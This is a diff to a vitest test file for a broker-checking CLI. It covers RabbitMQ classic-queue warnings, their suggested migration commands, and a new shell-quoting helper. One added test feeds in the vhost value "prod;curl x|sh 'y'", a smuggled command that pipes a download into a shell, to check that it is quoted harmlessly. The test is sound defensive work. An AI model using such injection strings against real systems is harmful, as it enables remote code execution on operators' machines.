@@ -7,7 +7,7 @@ import { createServer, type AddressInfo, type Socket } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { brokerReplicationResults, kafkaTopicResults, rabbitQueueResults } from '../../cli/broker-checks.js';
+import { brokerReplicationResults, kafkaTopicResults, rabbitQueueResults, shellWord } from '../../cli/broker-checks.js';
 
 describe('RabbitMQ queue types', () => {
   it('FAILs a classic request queue on a 3-node cluster, naming it, its node and the migration that stops nothing', () => {
@@ -44,7 +44,7 @@ describe('RabbitMQ queue types', () => {
         what: "RabbitMQ queue shop.web.dead-letter (Secret shop/b) is a classic queue on a 3-node cluster: it lives on rabbit@rabbit-2 only: while that node is down, the copies of failed requests it holds (4 at the management API's last count) are out of reach and no new one can be written",
         fix:
           'migrate it to a quorum queue: remove kueuer.io/queue-type: classic from its workload (and KUEUER_RABBITMQ_QUEUE_TYPE=classic from its sidecars) and let it roll out; ' +
-          'deleting the queue deletes its copies, so keep them first if you need them (rabbitmqadmin get queue=shop.web.dead-letter count=1000 ackmode=ack_requeue_true -f pretty_json > shop.web.dead-letter.json), ' +
+          'deleting the queue deletes its copies, so keep them first if you need them (rabbitmqadmin get queue=shop.web.dead-letter count=1000 ackmode=ack_requeue_true -f pretty_json > shop.web.dead-letter.json; repeat with a larger count while it returns as many as asked), ' +
           'then delete it: rabbitmqctl delete_queue shop.web.dead-letter; the sidecars declare it again as a quorum queue with the next copy (docs/rabbitmq.md, "An existing queue of another type")',
       },
     ]);
@@ -69,6 +69,21 @@ describe('RabbitMQ queue types', () => {
     expect(request!.fix).toContain('rabbitmqctl delete_queue --vhost shop --if-empty shop.web ');
     expect(deadLetter!.fix).toContain('rabbitmqadmin --vhost=shop get queue=shop.web.dead-letter count=1000 ');
     expect(deadLetter!.fix).toContain('rabbitmqctl delete_queue --vhost shop shop.web.dead-letter;');
+  });
+
+  it("quotes a vhost from a workload's Secret as one shell word, so a pasted command cannot run what it names", () => {
+    const [request, deadLetter] = rabbitQueueResults(
+      's',
+      [
+        { name: 'shop.web', type: 'classic', node: 'rabbit@r-1' },
+        { name: 'shop.web.dead-letter', type: 'classic', node: 'rabbit@r-1', messages: 2, deadLetter: true },
+      ],
+      3,
+      "prod;curl x|sh 'y'",
+    );
+    expect(request!.fix).toContain(`rabbitmqctl delete_queue --vhost 'prod;curl x|sh '\\''y'\\''' --if-empty shop.web `);
+    expect(deadLetter!.fix).toContain(`rabbitmqadmin --vhost='prod;curl x|sh '\\''y'\\''' get queue=shop.web.dead-letter`);
+    expect(shellWord('prod-1/eu')).toBe('prod-1/eu');
   });
 
   it('reports quorum queues, undeclared queues and a classic queue on a single node without failing', () => {
